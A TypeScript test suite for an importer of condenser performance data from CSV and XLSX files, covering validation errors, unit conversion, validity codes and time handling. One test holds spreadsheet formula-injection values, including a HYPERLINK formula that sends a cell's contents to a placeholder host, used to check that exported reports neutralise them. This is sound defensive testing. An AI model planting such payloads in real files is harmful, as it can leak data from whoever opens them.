import { writeFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkImportFile, importSamples, type ImportSample, type ImportSamplesOptions } from '@backend/import/parse-rows.js';
import { formatRowErrorReportCsv } from '@backend/import/import-errors.js';
import { US_HEADER, US_MAPPING, makeTempDir, usRow, writeCsv, writeXlsx } from './import-fixtures.js';

let tmp: Awaited<ReturnType<typeof makeTempDir>>;
beforeAll(async () => {
  tmp = await makeTempDir();
});
afterAll(async () => {
  await tmp.cleanup();
});

async function importAll(file: string, options: Omit<ImportSamplesOptions, 'onBatch'>) {
  const samples: ImportSample[] = [];
  const batches: number[] = [];
  const summary = await importSamples(file, {
    ...options,
    onBatch: async (b) => {
      batches.push(b.length);
      samples.push(...b);
    },
  });
  return { samples, summary, batches };
}

describe('checking a file (pass 1)', () => {
  it('passes a good file and reports its rows, span and order', async () => {
    const f = await writeCsv(tmp.file('good.csv'), [US_HEADER, usRow(0), usRow(1), usRow(2)]);
    const check = await checkImportFile(f, { mapping: US_MAPPING });
    expect(check).toMatchObject({ ok: true, kind: 'csv', dataRows: 3, order: 'ascending', errors: [], errorsNotListed: 0 });
    expect(check.firstTimestampUtc).toBe(Date.UTC(2024, 5, 1));
    expect(check.lastTimestampUtc).toBe(Date.UTC(2024, 5, 1, 0, 2));
    expect(check.assumptions.join(' ')).toMatch(/inHg at 0 °C/);
  });

  it('lists every wrong cell with its file line and column, and imports nothing', async () => {
    const f = await writeCsv(tmp.file('wrong.csv'), [
      US_HEADER,
      usRow(0),
      usRow(1, 480, { bp: 'two' }), // line 3: text in a number
      usRow(2, 480, { t1: '' }), // line 4: missing required value
      usRow(3, 480, { ts: '2024-06-01 00:03' }), // line 5: no offset
      '2024-06-01T00:04Z,480,2.0', // line 6: too few columns
      usRow(0), // line 7: repeats line 2's time
      usRow(5, 480, { t1: '75.5.5', flow: '1e5x' }), // line 8: two errors in one row
    ]);
    const check = await checkImportFile(f, { mapping: US_MAPPING });
    expect(check.ok).toBe(false);
    expect(check.errors.map((e) => [e.row, e.column])).toEqual([
      [3, 'BP (inHgA)'],
      [4, 'CW In Temp °F'],
      [5, 'Timestamp'],
      [6, 'CW In Temp °F'],
      [8, 'CW In Temp °F'],
      [8, 'Circ Water Flow gpm'],
      [7, 'Timestamp'],
    ]);
    expect(check.errors[0]).toMatchObject({ value: 'two', message: 'not a number' });
    expect(check.errors[1]?.message).toMatch(/missing value: CW inlet temperature is required/);
    expect(check.errors[3]?.message).toMatch(/the row has 3 columns; the header has 6/);
    expect(check.errors[6]?.message).toBe('duplicated timestamp: the same time as line 2');
    expect(check.duplicateTimestamps).toBe(1);
  });

  it('finds a duplicated timestamp far apart in an unsorted file', async () => {
    const rows = [US_HEADER];
    for (let m = 0; m < 200; m++) rows.push(usRow((m * 37) % 200));
    rows.push(usRow(111));
    const check = await checkImportFile(await writeCsv(tmp.file('dup-unsorted.csv'), rows), { mapping: US_MAPPING });
    expect(check.order).toBe('unordered');
    const line111 = 2 + [...Array(200).keys()].findIndex((m) => (m * 37) % 200 === 111);
    expect(check.errors).toEqual([expect.objectContaining({ row: 202, message: `duplicated timestamp: the same time as line ${line111}` })]);
  });

  it('reports a mapped column that the file lacks, and a unit it does not know, as file errors', async () => {
    const f = await writeCsv(tmp.file('missing-col.csv'), ['Timestamp,Gross MW,BP (inHgA),CW In Temp °F', usRow(0).split(',').slice(0, 4).join(',')]);
    const check = await checkImportFile(f, { mapping: US_MAPPING });
    expect(check.fileError).toMatchObject({ code: 'column-not-found' });
    expect(check.fileError?.message).toMatch(/"CW Out Temp °F", "Circ Water Flow gpm"/);

    const good = await writeCsv(tmp.file('units.csv'), [US_HEADER, usRow(0)]);
    const bad = { ...US_MAPPING, columns: { ...US_MAPPING.columns, backpressure: { column: 'BP (inHgA)', unit: 'inches' } } };
    const r = await checkImportFile(good, { mapping: bad });
    expect(r.fileError).toMatchObject({ code: 'bad-mapping' });
    expect(r.fileError?.message).toMatch(/columns\.backpressure\.unit: unit must be one of kPa, inHg, mbar, psi, bar, mmHg/);
  });

  it('warns when the values do not fit the chosen unit (°F mapped as °C)', async () => {
    const f = await writeCsv(tmp.file('wrong-unit.csv'), [US_HEADER, usRow(0), usRow(1)]);
    const mapping = { ...US_MAPPING, columns: { ...US_MAPPING.columns, cwInletTemperature: { column: 'CW In Temp °F', unit: 'degC' } } };
    const check = await checkImportFile(f, { mapping });
    expect(check.ok).toBe(true);
    expect(check.warnings.join(' ')).toMatch(/CW inlet temperature averages 75.00 .*°F rather than °C/);
  });

  it('neutralises a formula in an echoed cell, in the error list and in the downloadable report', async () => {
    const f = await writeCsv(tmp.file('injection.csv'), [
      US_HEADER,
      usRow(0, 480, { bp: '"=HYPERLINK(""http://x.example/?""&A1)"' }),
      usRow(1, 480, { t2: '@SUM(1+1)' }),
      usRow(2, 480, { flow: '-2+3' }),
    ]);
    const check = await checkImportFile(f, { mapping: US_MAPPING });
    expect(check.errors.map((e) => e.value)).toEqual(['\'=HYPERLINK("http://x.example/?"&A1)', "'@SUM(1+1)", "'-2+3"]);
    const report = formatRowErrorReportCsv(check.errors);
    const lines = report.trim().split('\r\n');
    expect(lines[0]).toBe('row,column,value,problem');
    expect(lines[1]).toBe('2,BP (inHgA),"\'=HYPERLINK(""http://x.example/?""&A1)",not a number');
    for (const line of lines.slice(1)) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('truncates long echoed values and caps the list, counting the rest', async () => {
    const rows = [US_HEADER];
    for (let m = 0; m < 30; m++) rows.push(usRow(m, 480, { bp: 'x'.repeat(500) }));
    const check = await checkImportFile(await writeCsv(tmp.file('many.csv'), rows), { mapping: US_MAPPING, maxErrors: 10 });
    expect(check.errors).toHaveLength(10);
    expect(check.errorsNotListed).toBe(20);
    expect(check.errors[0]?.value.length).toBeLessThanOrEqual(61);
    expect(formatRowErrorReportCsv(check.errors, check.errorsNotListed)).toMatch(/20 more errors not listed/);
  });

  it('turns a 0-byte file and an unclosed quote into file errors rather than exceptions', async () => {
    const f = tmp.file('zero.csv');
    await writeFile(f, '');
    expect(await checkImportFile(f, { mapping: US_MAPPING })).toMatchObject({ ok: false, fileError: { code: 'empty-file' } });
    const q = await writeCsv(tmp.file('unclosed.csv'), [US_HEADER, usRow(0), usRow(1, 480, { bp: '"2.0' }), usRow(2)]);
    const check = await checkImportFile(q, { mapping: US_MAPPING });
    expect(check.fileError?.code).toBe('malformed-csv');
    expect(check.fileError?.message).toMatch(/a quote opened on line 3 is never closed/);
  });
});

describe('importing samples (pass 2)', () => {
  it('converts every value to SI: inHg → kPa, °F → °C, gpm → m³/s', async () => {
    const f = await writeCsv(tmp.file('si.csv'), [US_HEADER, usRow(0, 480, { bp: '2.000', t1: '77.0', t2: '95.0', flow: '100000' })]);
    const { samples } = await importAll(f, { mapping: US_MAPPING });
    const s = samples[0]!;
    // NIST SP 811: 1 inHg (0 °C) = 3.386389 kPa; 1 US gal = 3.785411784 L
    expect(s.backpressureKpa).toBeCloseTo(6.772778, 6);
    expect(s.cwInletC).toBeCloseTo(25, 10);
    expect(s.cwOutletC).toBeCloseTo(35, 10);
    expect(s.cwFlowM3s).toBeCloseTo((100_000 * 3.785411784e-3) / 60, 9);
    expect(s).toMatchObject({ line: 2, timestampUtc: Date.UTC(2024, 5, 1), loadMw: 480, flowAssumed: false, validity: 'ok' });
  });

  it('computes backpressure from condenser vacuum and barometer, row by row or from a fixed barometer', async () => {
    const f = await writeCsv(tmp.file('vacuum.csv'), [
      'Time,Gross MW,Condenser Vacuum inHg,Barometer inHg,CW In °F,CW Out °F,CW Flow gpm',
      '2024-06-01T00:00Z,480,27.500,29.500,75,93,250000',
    ]);
    const base = {
      timestamp: { column: 'Time', format: 'iso-8601-offset' },
      columns: {
        grossLoad: { column: 'Gross MW', unit: 'MW' },
        condenserVacuum: { column: 'Condenser Vacuum inHg', unit: 'inHg' },
        cwInletTemperature: { column: 'CW In °F', unit: 'degF' },
        cwOutletTemperature: { column: 'CW Out °F', unit: 'degF' },
        cwFlow: { column: 'CW Flow gpm', unit: 'gpm' },
      },
    };
    const withColumn = { ...base, columns: { ...base.columns, barometer: { column: 'Barometer inHg', unit: 'inHg' } } };
    const a = await importAll(f, { mapping: withColumn });
    expect(a.samples[0]?.backpressureKpa).toBeCloseTo(2 * 3.386389, 9);
    expect(a.samples[0]?.barometerKpa).toBeCloseTo(29.5 * 3.386389, 9);
    const b = await importAll(f, { mapping: { ...base, fixedBarometer: { value: 1000, unit: 'mbar' } } });
    expect(b.samples[0]?.backpressureKpa).toBeCloseTo(100 - 27.5 * 3.386389, 9);
    expect(b.summary.assumptions.join(' ')).toMatch(/fixed barometer 1000 mbar/);
  });

  it('uses the design flow when CW flow is not metered, and says so on every sample', async () => {
    const f = await writeCsv(tmp.file('noflow.csv'), ['Timestamp,Gross MW,BP (inHgA),CW In Temp °F,CW Out Temp °F', '2024-06-01T00:00Z,480,2.0,75,93']);
    const { cwFlow: _f, ...columns } = US_MAPPING.columns;
    const { samples, summary } = await importAll(f, { mapping: { ...US_MAPPING, columns, designCwFlowM3s: 15.5 } });
    expect(samples[0]).toMatchObject({ cwFlowM3s: 15.5, flowAssumed: true });
    expect(summary.flowAssumedRows).toBe(1);
    expect(summary.assumptions.join(' ')).toMatch(/design flow 15.5 m³\/s/);
  });

  it('reads decimal commas in a semicolon file and converts optional quantities', async () => {
    const f = await writeCsv(tmp.file('si-semicolon.csv'), [
      'Zeit;Leistung MW;Druck mbar;KW ein °C;KW aus °C;KW m3/h;Hotwell °C;O2 ppb;Luft kg/h;Kondensat t/h',
      '2024-06-01T02:00:00+02:00;400,5;65,0;18,5;28,0;36000;37,5;6,5;9,0;1080',
    ]);
    const mapping = {
      timestamp: { column: 'Zeit', format: 'iso-8601-offset' },
      decimalSeparator: ',',
      columns: {
        grossLoad: { column: 'Leistung MW', unit: 'MW' },
        backpressure: { column: 'Druck mbar', unit: 'mbar' },
        cwInletTemperature: { column: 'KW ein °C', unit: 'degC' },
        cwOutletTemperature: { column: 'KW aus °C', unit: 'degC' },
        cwFlow: { column: 'KW m3/h', unit: 'm3/h' },
        hotwellTemperature: { column: 'Hotwell °C', unit: 'degC' },
        dissolvedOxygen: { column: 'O2 ppb', unit: 'ppb' },
        airRemovalFlow: { column: 'Luft kg/h', unit: 'kg/h' },
        condensateFlow: { column: 'Kondensat t/h', unit: 't/h' },
      },
    };
    const { samples } = await importAll(f, { mapping });
    expect(samples[0]).toMatchObject({
      timestampUtc: Date.UTC(2024, 5, 1),
      loadMw: 400.5,
      backpressureKpa: 6.5,
      cwInletC: 18.5,
      cwOutletC: 28,
      cwFlowM3s: 10,
      hotwellC: 37.5,
      dissolvedOxygenPpb: 6.5,
    });
    expect(samples[0]?.airRemovalKgS).toBeCloseTo(0.0025, 12);
    expect(samples[0]?.condensateFlowKgS).toBeCloseTo(300, 9);
  });

  it('keeps non-physical and low-load rows with the engineering core reason codes', async () => {
    const f = await writeCsv(tmp.file('validity.csv'), [
      US_HEADER,
      usRow(0),
      usRow(100, 480, { t2: '74.5' }), // outlet below inlet
      usRow(200, 480, { t2: '102.0' }), // above 101.1 °F saturation at 2.0 inHgA (ENGINEERING.md §2 table)
      usRow(300, 150), // 30 % of a 500 MW rating
      usRow(400, 480, { bp: '20.0' }), // 67.7 kPa, above the 50 kPa plausible limit
    ]);
    const { samples, summary } = await importAll(f, { mapping: US_MAPPING, steadiness: { ratingMw: 500 } });
    expect(samples.map((s) => s.validity)).toEqual(['ok', 'rise-not-positive', 'ttd-not-positive', 'low-load', 'out-of-range']);
    expect(summary).toMatchObject({
      rowsRead: 5,
      rowsOk: 1,
      rowsByReason: { 'rise-not-positive': 1, 'ttd-not-positive': 1, 'low-load': 1, 'out-of-range': 1 },
    });
  });

  it('flags exactly the rows whose ±30 min window spans a load step above 2 % of rating', async () => {
    const rows = [US_HEADER];
    for (let m = 0; m < 240; m++) rows.push(usRow(m, m < 120 ? 400 : 450));
    const { samples } = await importAll(await writeCsv(tmp.file('step.csv'), rows), { mapping: US_MAPPING, steadiness: { ratingMw: 500 } });
    const unsteady = samples.filter((s) => s.validity === 'unsteady-load').map((s) => (s.timestampUtc - Date.UTC(2024, 5, 1)) / 60_000);
    // a row at minute m sees minutes m−30…m+30; the step lies between minutes 119 and 120
    expect(unsteady).toEqual([...Array(60).keys()].map((k) => 90 + k));
  });

  it('accepts a load change of exactly 2 % of rating within the window', async () => {
    const rows = [US_HEADER];
    for (let m = 0; m < 60; m++) rows.push(usRow(m, m < 30 ? 400 : 410));
    const { summary } = await importAll(await writeCsv(tmp.file('step-2pct.csv'), rows), { mapping: US_MAPPING, steadiness: { ratingMw: 500 } });
    expect(summary.rowsOk).toBe(60);
  });

  it('gives the same samples, in time order, for a shuffled file sorted through temporary runs', async () => {
    const lines: string[] = [];
    for (let m = 0; m < 500; m++) lines.push(usRow(m, 400 + 40 * Math.sin(m / 20)));
    const sorted = await writeCsv(tmp.file('sorted.csv'), [US_HEADER, ...lines]);
    const shuffled = [...lines];
    let seed = 3;
    for (let i = shuffled.length - 1; i > 0; i--) {
      seed = (seed * 16807) % 2147483647;
      const j = seed % (i + 1);
      [shuffled[i], shuffled[j]] = [shuffled[j]!, shuffled[i]!];
    }
    const unsorted = await writeCsv(tmp.file('shuffled.csv'), [US_HEADER, ...shuffled]);
    const checkA = await checkImportFile(sorted, { mapping: US_MAPPING });
    const checkB = await checkImportFile(unsorted, { mapping: US_MAPPING });
    expect([checkA.order, checkB.order]).toEqual(['ascending', 'unordered']);
    const a = await importAll(sorted, { mapping: US_MAPPING, steadiness: { ratingMw: 500 }, fileOrder: checkA.order });
    const b = await importAll(unsorted, { mapping: US_MAPPING, steadiness: { ratingMw: 500 }, fileOrder: checkB.order, sortChunkRows: 64, tempDir: tmp.dir });
    expect(b.summary.sortedOnTheWay).toBe(true);
    const strip = (s: ImportSample[]) => s.map(({ line: _line, ...rest }) => rest);
    expect(strip(b.samples)).toEqual(strip(a.samples));
    expect(a.samples.some((s) => s.validity === 'unsteady-load')).toBe(true);
  });

  it('reads a newest-first file and hands out batches of the requested size', async () => {
    const rows = [US_HEADER];
    for (let m = 11; m >= 0; m--) rows.push(usRow(m));
    const f = await writeCsv(tmp.file('descending.csv'), rows);
    const check = await checkImportFile(f, { mapping: US_MAPPING });
    expect(check.order).toBe('descending');
    const { samples, batches } = await importAll(f, { mapping: US_MAPPING, fileOrder: check.order, batchSize: 5 });
    expect(batches).toEqual([5, 5, 2]);
    expect(samples.map((s) => s.line)).toEqual([13, 12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2]);
  });

  it('refuses to import a file that was changed into a wrong one after the check', async () => {
    const f = await writeCsv(tmp.file('changed.csv'), [US_HEADER, usRow(0), usRow(1, 480, { bp: 'n/a' })]);
    await expect(importAll(f, { mapping: US_MAPPING, fileOrder: 'ascending' })).rejects.toMatchObject({ code: 'file-changed', line: 3 });
  });

  it('imports an XLSX workbook with Excel serial times across the autumn clock change', async () => {
    // 2024-11-03 00:30 … 02:00 Chicago, hourly, the repeated 01:00 hour written twice (as a historian would in local time)
    const serial = (h: number, m: number) => 45599 + (h * 60 + m) / 1440; // 45599 = 2024-11-03 [derived: 45292 + 307 days]
    const f = await writeXlsx(tmp.file('dst.xlsx'), [
      ['Timestamp', 'Gross MW', 'BP (inHgA)', 'CW In Temp °F', 'CW Out Temp °F', 'Circ Water Flow gpm'],
      [serial(0, 30), 480, 2, 60, 78, 250000],
      [serial(1, 0), 480, 2, 60, 78, 250000],
      [serial(1, 30), 480, 2, 60, 78, 250000],
      [serial(1, 0), 480, 2, 60, 78, 250000],
      [serial(1, 30), 480, 2, 60, 78, 250000],
      [serial(2, 0), 480, 2, 60, 78, 250000],
    ]);
    const mapping = { ...US_MAPPING, timestamp: { column: 'Timestamp', format: 'excel-serial', timeZone: 'America/Chicago' } };
    const check = await checkImportFile(f, { mapping });
    expect(check).toMatchObject({ ok: true, kind: 'xlsx', order: 'ascending', duplicateTimestamps: 0 });
    const { samples } = await importAll(f, { mapping, fileOrder: check.order });
    expect(samples.map((s) => new Date(s.timestampUtc).toISOString().slice(11, 16))).toEqual(['05:30', '06:00', '06:30', '07:00', '07:30', '08:00']);
  });
});
